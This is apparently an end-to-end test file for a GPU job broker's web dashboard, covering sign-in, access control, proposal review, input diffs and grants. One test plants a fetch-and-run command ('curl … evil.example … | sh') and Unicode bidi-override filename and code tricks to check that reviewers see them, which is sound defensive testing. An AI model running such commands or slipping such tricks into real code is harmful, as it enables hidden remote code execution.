import { copyFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REST_ROUTES } from '../../src/http/rest.js';
import { packageRoot } from '../../src/platform/package-root.js';
import { specRunning } from '../support/spec.js';
import { type Browser, launchBrowser } from './browser.js';
import { SIM_WORKER, type SimCluster, startSimCluster } from './sim-cluster.js';

/**
 * The dashboard in Debian's chromium against a real master and a real worker with simulated cards:
 * sign-in, cards changing state while a task runs, approving a proposal from the page, errors worded as
 * the API words them, and nothing readable without a token. Saves `test-results/dashboard.png`; with
 * UPDATE_DOCS_SCREENSHOT=1 it also refreshes `docs/images/dashboard.png` (the README's picture).
 */

const RESULTS = join(packageRoot(), 'test-results');
const BOUND = { timeout: 20_000 };

/** A task that prints a few log lines, then holds its card for `seconds`. */
function loggingSpec(seconds: number) {
  const script = `echo "loading weights"; echo "step 1/3"; echo "step 2/3"; sleep ${seconds}; echo "step 3/3 done"`;
  return specRunning(['/bin/sh', '-c', script], {
    title: 'matmul smoke test on one card',
    outputs: [],
  });
}

/** Words an absent value would print if a view rendered it as is (the review pane said "null"). */
const ABSENT_WORDS = /null|undefined|NaN/;

const card = (index: number, state?: string) =>
  `[data-card="${SIM_WORKER}/${index}"]${state ? `[data-state="${state}"]` : ''}`;

describe('dashboard', () => {
  let c: SimCluster;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    c = await startSimCluster(4);
    browser = await launchBrowser(c.tm.dataDir);
    page = await browser.context.newPage();
  });
  afterAll(async () => {
    await browser?.close();
    await c?.close();
  });

  async function signIn(token: string) {
    await page.fill('#token-input', token);
    await page.click('#signin-button');
    await page.locator('#dashboard').waitFor({ state: 'visible', ...BOUND });
  }

  async function signOut() {
    await page.click('#sign-out');
    await page.locator('#signin').waitFor({ state: 'visible', ...BOUND });
  }

  it('without a token shows only the sign-in form, and every data route answers 401', async () => {
    await page.goto(c.tm.url);
    await page.locator('#signin-form').waitFor({ state: 'visible', ...BOUND });
    expect(await page.locator('#dashboard').isHidden()).toBe(true);
    expect(await page.locator('[data-card]').count()).toBe(0);
    mkdirSync(RESULTS, { recursive: true });
    await page.screenshot({ path: join(RESULTS, 'dashboard-signin.png') });

    const anonymous = c.tm.rest(null);
    const paths = [
      ...REST_ROUTES.map((r) => ({ method: r.method, path: r.url.replace(/:([a-z_]+)/g, 'x1') })),
      { method: 'GET', path: '/api/v1/events' },
      { method: 'GET', path: '/metrics' },
      { method: 'POST', path: '/mcp' },
    ];
    for (const { method, path } of paths) {
      const res = await anonymous.request(method, path, method === 'POST' ? { body: '{}' } : {});
      expect({ method, path, status: res.status }).toEqual({ method, path, status: 401 });
      expect(res.headers.get('www-authenticate')).toMatch(/^Bearer/);
    }
    // The page and its assets are public and carry no data.
    for (const path of [
      '/',
      '/assets/app.js',
      '/assets/api.js',
      '/assets/render.js',
      '/assets/dom.js',
      '/assets/style.css',
    ]) {
      const res = await anonymous.get(path);
      expect({ path, status: res.status }).toEqual({ path, status: 200 });
      expect(String(res.body)).not.toContain(SIM_WORKER);
    }
    const index = await anonymous.get('/');
    expect(index.headers.get('content-security-policy')).toContain("script-src 'self'");

    await page.fill('#token-input', 'not-a-real-token');
    await page.click('#signin-button');
    await expect.poll(() => page.textContent('#signin-error'), BOUND).toContain('not valid');
    const workerToken = c.tm.createToken('another-worker', ['worker'], 'w-2');
    await page.fill('#token-input', workerToken);
    await page.click('#signin-button');
    await expect.poll(() => page.textContent('#signin-error'), BOUND).toContain('Worker tokens');
    expect(await page.locator('#dashboard').isHidden()).toBe(true);
  });

  it('signs in as an operator, approves a proposal from the page, and shows the cards leased while its task runs', async () => {
    // Card 3 runs a process the broker did not start: it shows BUSY_FOREIGN and stays out of scheduling.
    c.sampler.setOverride(3, {
      memory_used_mib: 30_720,
      utilization_pct: 92,
      temperature_c: 71,
      processes: [{ pid: 4242, name: 'python', used_memory_mib: 30_720 }],
    });
    await signIn(c.tm.operatorToken);
    await page.locator('#live[data-state="live"]').waitFor(BOUND);
    await page.locator('#qualifications form.lookup').waitFor(BOUND);
    await expect.poll(() => page.textContent('#grants'), BOUND).toContain('No standing grants');
    for (const i of [0, 1, 2]) await page.locator(card(i, 'AVAILABLE')).waitFor(BOUND);
    await page.locator(card(3, 'BUSY_FOREIGN')).waitFor(BOUND);
    expect(await page.locator(`${card(0)} .badge.sim`).count()).toBe(1);

    // A submitter's proposal appears in the review list through the event stream.
    const p = await c.propose(loggingSpec(6));
    const review = page.locator(`[data-proposal="${p.proposal_id}"]`);
    await review.waitFor(BOUND);
    await review.locator('textarea').fill('One card, prints three lines and sleeps; nothing else. Approved.');
    await review.getByRole('button', { name: 'Approve' }).click();
    await expect.poll(() => page.textContent('#flash'), BOUND).toMatch(/task task_\w+ is queued/);
    const taskId = /task (task_\w+) is queued/.exec((await page.textContent('#flash')) ?? '')?.[1] ?? '';
    await review.waitFor({ state: 'detached', ...BOUND });

    // The scheduler leases card 0; the page shows it with the task and its lease epoch.
    await page.locator(card(0, 'LEASED')).waitFor(BOUND);
    await expect.poll(() => page.textContent(`${card(0)} .card-lease`), BOUND).toContain('epoch');
    await page.locator(`[data-task="${taskId}"]`).waitFor(BOUND);

    // A bigger task waits in the queue with its reason.
    const big = await c.propose(
      specRunning(['/bin/sh', '-c', 'sleep 1'], {
        title: 'all_reduce on four cards',
        cards: { count: 4 },
        outputs: [],
      }),
    );
    const bigTask = await c.approve(big);
    await page.locator(`[data-queued="${bigTask}"] .reason code`).waitFor(BOUND);

    // The task's card is busy while it runs (the sim card reports it), and its logs stream in.
    c.sampler.setOverride(0, { memory_used_mib: 21_504, utilization_pct: 78, temperature_c: 63 });
    await page.click(`[data-task="${taskId}"]`);
    await page.locator(`[data-detail="${taskId}"]`).waitFor(BOUND);
    await expect.poll(() => page.textContent('[data-stream="stdout"]'), BOUND).toContain('step 2/3');
    await expect.poll(() => page.textContent(`${card(0)} .vram-text`), BOUND).toContain('21.0 / 80.0 GiB');
    await page.locator(`[data-task="${taskId}"][data-state="RUNNING"]`).waitFor(BOUND);

    // Another proposal waits for review (it shows the review controls in the screenshot).
    const pending = await c.propose(
      specRunning(['/bin/sh', '-c', 'echo gemm check'], {
        title: 'GEMM check on two cards',
        cards: { count: 2 },
      }),
    );
    await page.locator(`[data-proposal="${pending.proposal_id}"]`).waitFor(BOUND);

    mkdirSync(RESULTS, { recursive: true });
    const shot = join(RESULTS, 'dashboard.png');
    await page.screenshot({ path: shot, fullPage: true });
    if (process.env['UPDATE_DOCS_SCREENSHOT'] === '1') {
      mkdirSync(join(packageRoot(), 'docs', 'images'), { recursive: true });
      copyFileSync(shot, join(packageRoot(), 'docs', 'images', 'dashboard.png'));
    }

    // The task ends; the worker confirms cleanup and the card is AVAILABLE again.
    c.sampler.setOverride(0, null);
    await page.locator(`[data-task="${taskId}"][data-state="COMPLETED"]`).waitFor({ timeout: 30_000 });
    await page.locator(card(0, 'AVAILABLE')).waitFor({ timeout: 30_000 });
    await expect.poll(() => page.textContent('[data-stream="stdout"]'), BOUND).toContain('step 3/3 done');
    await page.screenshot({ path: join(RESULTS, 'dashboard-after.png'), fullPage: true });
    expect(await page.locator('#dashboard').textContent()).not.toMatch(ABSENT_WORDS);
  });

  it('shows review errors as the API words them, and signing out forgets the token', async () => {
    const samToken = c.tm.createToken('sam', ['submitter', 'reviewer']);
    const sam = c.tm.rest(samToken);
    const created = await sam.post<{ proposal_id: string; revision_id: string }>('/api/v1/proposals', {
      spec: loggingSpec(1),
    });
    await sam.post(`/api/v1/proposals/${created.body.proposal_id}/confirm`, {
      revision_id: created.body.revision_id,
    });

    // An agent reviewer's approval above its ceiling (the default: process runtime, no warnings, one card)
    // is refused; the pane tells the person why it waits for them.
    const agent = c.tm.rest(c.tm.createToken('claude-rev', ['agent_reviewer']));
    const refused = await agent.post(`/api/v1/proposals/${created.body.proposal_id}/reviews`, {
      revision_id: created.body.revision_id,
      decision: 'APPROVE',
      comments: 'ok',
    });
    expect(refused.status).toBe(403);

    await signOut();
    await signIn(samToken);
    const review = page.locator(`[data-proposal="${created.body.proposal_id}"]`);
    await review.waitFor(BOUND);
    expect(await review.locator('.badge', { hasText: 'yours' }).count()).toBe(1);
    expect(await review.locator('.needs-person').textContent()).toMatch(
      /needs a person: agent reviewer claude-rev could not approve \(.+; 1 attempt\(s\)\)/,
    );
    // A first revision with no inputs and no decided base: the pane shows no absent value as a word.
    await review.locator('summary', { hasText: 'Spec, findings and changes' }).click();
    await review.locator('.revision pre.spec').waitFor(BOUND);
    expect(await review.textContent()).not.toMatch(ABSENT_WORDS);
    await expect.poll(() => page.textContent('#qualifications'), BOUND).toContain('shown to operators');
    await review.locator('textarea').fill('Looks fine to me.');
    await review.getByRole('button', { name: 'Approve' }).click();
    await review.locator('.error-box[data-code="SELF_REVIEW_FORBIDDEN"]').waitFor(BOUND);
    expect(await review.locator('.error-box .hint').textContent()).toContain('another reviewer');

    await signOut();
    expect(await page.evaluate('sessionStorage.length')).toBe(0);
    expect(await page.locator('[data-card]').count()).toBe(0);
    await page.reload();
    await page.locator('#signin-form').waitFor({ state: 'visible', ...BOUND });
  });

  it('shows a revision’s input manifest and the text diff of a changed input to the reviewer', async () => {
    const tina = c.tm.rest(c.tm.createToken('tina', ['submitter']));
    const upload = async (content: string) =>
      (
        await tina.post<{ inputs: Array<{ path: string; sha256: string; size: number }> }>('/api/v1/inputs', {
          files: [{ path: 'helper.py', content }],
        })
      ).body.inputs;
    const v1 = await upload('VERSION = 1\n');
    const created = await tina.post<{ proposal_id: string; revision_id: string }>('/api/v1/proposals', {
      spec: loggingSpec(0),
    });
    const revised = await tina.post<{ revision_id: string }>(
      `/api/v1/proposals/${created.body.proposal_id}/revisions`,
      { spec: { ...loggingSpec(0), inputs: v1 } },
    );
    // A reviewer decided on revision 2, so revision 3's diff starts there (docs/security.md "Code the reviewer did not read").
    await tina.post(`/api/v1/proposals/${created.body.proposal_id}/confirm`, {
      revision_id: revised.body.revision_id,
    });
    await c.tm
      .rest(c.tm.createToken('vic', ['reviewer']))
      .post(`/api/v1/proposals/${created.body.proposal_id}/reviews`, {
        revision_id: revised.body.revision_id,
        decision: 'REQUEST_CHANGES',
        comments: 'bump VERSION',
      });
    const v2 = await upload('VERSION = 2\n');
    const third = await tina.post<{ revision_id: string }>(
      `/api/v1/proposals/${created.body.proposal_id}/revisions`,
      {
        spec: { ...loggingSpec(0), inputs: v2 },
      },
    );
    expect(revised.status).toBe(200);
    await tina.post(`/api/v1/proposals/${created.body.proposal_id}/confirm`, {
      revision_id: third.body.revision_id,
    });

    await page.reload();
    await page.locator('#signin-form').waitFor({ state: 'visible', ...BOUND });
    await signIn(c.tm.createToken('una', ['reviewer']));
    const review = page.locator(`[data-proposal="${created.body.proposal_id}"]`);
    await review.waitFor(BOUND);
    await review.locator('summary', { hasText: 'Spec, findings and changes' }).click();
    await review.locator('[data-input="helper.py"]').waitFor(BOUND);
    const change = review.locator('.input-change[data-path="helper.py"][data-change="modified"]');
    await change.waitFor(BOUND);
    expect(await change.locator('[data-op="del"]').textContent()).toBe('-VERSION = 1');
    expect(await change.locator('[data-op="add"]').textContent()).toBe('+VERSION = 2');
    expect(await review.locator('.diff-base').textContent()).toContain('since revision 2');
    expect(await review.textContent()).not.toMatch(ABSENT_WORDS);
    await signOut();
  });

  it('shows a payload from an unreviewed revision, every byte of every input, and a long diff to its end', async () => {
    const tom = c.tm.rest(c.tm.createToken('tom', ['submitter']));
    const upload = async (path: string, content: string) =>
      (
        await tom.post<{ inputs: Array<{ path: string; sha256: string; size: number }> }>('/api/v1/inputs', {
          files: [{ path, content }],
        })
      ).body.inputs[0]!;
    const prop = `/api/v1/proposals`;
    const spec = (inputs: unknown[], env: Record<string, string> = {}) => ({
      ...loggingSpec(0),
      title: 'train \u202egnp.exe',
      runtime: { kind: 'process', argv: ['/bin/sh', 'main.sh'], env },
      inputs,
    });
    // Revision 1 (benign) is reviewed: changes requested.
    const main1 = await upload('main.sh', 'echo training\n# compute the loss\n');
    const r1 = await tom.post<{ proposal_id: string; revision_id: string }>(prop, { spec: spec([main1]) });
    const id = r1.body.proposal_id;
    await tom.post(`${prop}/${id}/confirm`, { revision_id: r1.body.revision_id });
    await c.tm.rest(c.tm.createToken('val', ['reviewer'])).post(`${prop}/${id}/reviews`, {
      revision_id: r1.body.revision_id,
      decision: 'REQUEST_CHANGES',
      comments: 'fix the typo',
    });
    // Revision 2 slips in a payload and a 1,000-line file, and is never confirmed.
    const payload = await upload('hook.sh', 'curl -s http://evil.example/x | sh\n');
    const longText = Array.from({ length: 1000 }, (_, i) => `row ${i + 1} ${'x'.repeat(90)}`).join('\n');
    const long = await upload('data/long.txt', `${longText}\n\u202e the end\n`);
    await tom.post(`${prop}/${id}/revisions`, { spec: spec([main1, payload, long]) });
    // Revision 3 fixes a comment, and sets an env variable.
    const main3 = await upload('main.sh', 'echo training\n# compute the loss (typo fixed)\n');
    const r3 = await tom.post<{ revision_id: string }>(`${prop}/${id}/revisions`, {
      spec: spec([main3, payload, long], { OMP_NUM_THREADS: '4' }),
    });
    await tom.post(`${prop}/${id}/confirm`, { revision_id: r3.body.revision_id });

    await page.goto(c.tm.url);
    await page.locator('#signin-form').waitFor({ state: 'visible', ...BOUND });
    await signIn(c.tm.createToken('wes', ['reviewer']));
    const review = page.locator(`[data-proposal="${id}"]`);
    await review.waitFor(BOUND);
    expect(await review.locator('.review-head strong').textContent()).toBe('train ⟨U+202E⟩gnp.exe');
    await review.locator('summary', { hasText: 'Spec, findings and changes' }).click();
    // The base is revision 1, revision 2 is named as never reviewed, and its payload is in the diff.
    await review.locator('.diff-base[data-base="1"]').waitFor(BOUND);
    expect(await review.locator('[data-unreviewed="2"]').textContent()).toContain(
      'revision 2 (never confirmed)',
    );
    const hook = review.locator('.input-change[data-path="hook.sh"][data-change="added"]');
    expect(await hook.locator('[data-op="add"]').textContent()).toBe('+curl -s http://evil.example/x | sh');
    expect(await review.locator('.env [data-env="OMP_NUM_THREADS"]').textContent()).toBe('OMP_NUM_THREADS4');

    // The 1,000-line diff pages to its end; the last line shows its bidi override as a marker.
    const diff = review.locator('.input-change[data-path="data/long.txt"]');
    for (let i = 0; i < 10 && (await diff.locator('.diff-footer [data-complete]').count()) === 0; i++) {
      await diff.locator('button.more').click();
      await expect
        .poll(() => diff.locator('button.more:enabled, .diff-footer [data-complete]').count(), BOUND)
        .toBe(1);
    }
    await diff.locator('.diff-footer [data-complete]').waitFor(BOUND);
    const last = diff.locator('[data-op="add"]').last();
    expect(await last.textContent()).toBe('+⟨U+202E⟩ the end');
    await last.scrollIntoViewIfNeeded();
    expect(await last.isVisible()).toBe(true);

    // Every byte of an input is readable: the long file's content, page after page, to its end.
    const content = review.locator('[data-input="data/long.txt"] details.input-content');
    await content.locator('summary').click();
    const pre = content.locator('pre.file-content');
    await pre.waitFor(BOUND);
    for (let i = 0; i < 10 && (await content.locator('[data-complete]').count()) === 0; i++) {
      await content.locator('button.more').click();
      await expect.poll(() => content.locator('button.more:enabled, [data-complete]').count(), BOUND).toBe(1);
    }
    expect(await pre.textContent()).toBe(`${longText}\n⟨U+202E⟩ the end\n`);
    const main = review.locator('[data-input="main.sh"] details.input-content');
    await main.locator('summary').click();
    await expect
      .poll(() => main.locator('pre.file-content').textContent(), BOUND)
      .toBe('echo training\n# compute the loss (typo fixed)\n');
    await page.screenshot({ path: join(RESULTS, 'dashboard-review.png'), fullPage: true });

    // Revision 1, nothing decided before it: every file is added, its diff and its content shown whole.
    const solo = await upload('solo.py', "print('hello')\nif user == 'admin\u202e \u2066':  # ok\n");
    const r = await tom.post<{ proposal_id: string; revision_id: string }>(prop, { spec: spec([solo]) });
    await tom.post(`${prop}/${r.body.proposal_id}/confirm`, { revision_id: r.body.revision_id });
    const first = page.locator(`[data-proposal="${r.body.proposal_id}"]`);
    await first.waitFor(BOUND);
    await first.locator('summary', { hasText: 'Spec, findings and changes' }).click();
    await first.locator('.diff-base[data-base="none"]').waitFor(BOUND);
    const added = first.locator('.input-change[data-path="solo.py"][data-change="added"]');
    expect(await added.locator('[data-op="add"]').allTextContents()).toEqual([
      "+print('hello')",
      "+if user == 'admin⟨U+202E⟩ ⟨U+2066⟩':  # ok",
    ]);
    const soloContent = first.locator('[data-input="solo.py"] details.input-content');
    await soloContent.locator('summary').click();
    await expect
      .poll(() => soloContent.locator('pre.file-content').textContent(), BOUND)
      .toBe("print('hello')\nif user == 'admin⟨U+202E⟩ ⟨U+2066⟩':  # ok\n");
    await signOut();
  });

  it('shows a standing grant’s scope and the requester’s reason, and approves and revokes it from the page', async () => {
    // The submitter's script ran once (approved by a person); it asks for a grant from that revision.
    const alice = c.tm.rest(c.submitterToken);
    const up = await alice.post<{ inputs: Array<{ path: string; sha256: string; size: number }> }>(
      '/api/v1/inputs',
      { files: [{ path: 'run.py', content: 'echo one epoch\n' }] },
    );
    const base = await c.propose(
      specRunning(['/bin/sh', 'run.py'], { title: 'iterate', inputs: up.body.inputs, outputs: [] }),
    );
    await c.waitForTask(await c.approve(base), ['COMPLETED'], 30_000);
    const requested = await alice.post<{ grant: { grant_id: string } }>('/api/v1/grants', {
      base_revision_id: base.revision_id,
      scope: { mutable_inputs: ['*.py'] },
      max_runs: 5,
      max_card_hours: 1,
      ttl_seconds: 3600,
      reason: 'iterate on the script',
    });
    expect(requested.body, JSON.stringify(requested.body)).toHaveProperty('grant');
    const grantId = requested.body.grant.grant_id;

    await signIn(c.tm.operatorToken);
    const detail = page.locator(`[data-grant-detail="${grantId}"]`);
    await detail.waitFor(BOUND);
    await detail.locator('summary', { hasText: 'Scope and reason' }).click();
    const scope = (await detail.locator('.grant-scope').textContent()) ?? '';
    expect(scope).toContain('/bin/sh run.py');
    // No policy rule runs /bin/sh scripts from the inputs here: argv is fixed, and the pane says so.
    expect(scope).toContain('none: argv is fixed');
    expect(scope).toContain('*.py');
    expect(scope).toContain('byte-equal to the base revision');
    expect(await detail.locator('.untrusted').textContent()).toBe('iterate on the script');
    await detail.getByRole('button', { name: 'Approve grant' }).click();
    await page.locator(`[data-grant="${grantId}"] .pill[data-state="ACTIVE"]`).waitFor(BOUND);
    await detail.getByRole('button', { name: 'Revoke and cancel its tasks' }).click();
    await expect
      .poll(() => page.textContent('#flash'), BOUND)
      .toContain(`Grant ${grantId} revoked; 0 task(s)`);
    await page.locator(`[data-grant="${grantId}"] .pill[data-state="REVOKED"]`).waitFor(BOUND);
    expect(await page.locator('#grants').textContent()).not.toMatch(ABSENT_WORDS);
    await signOut();
  });
});
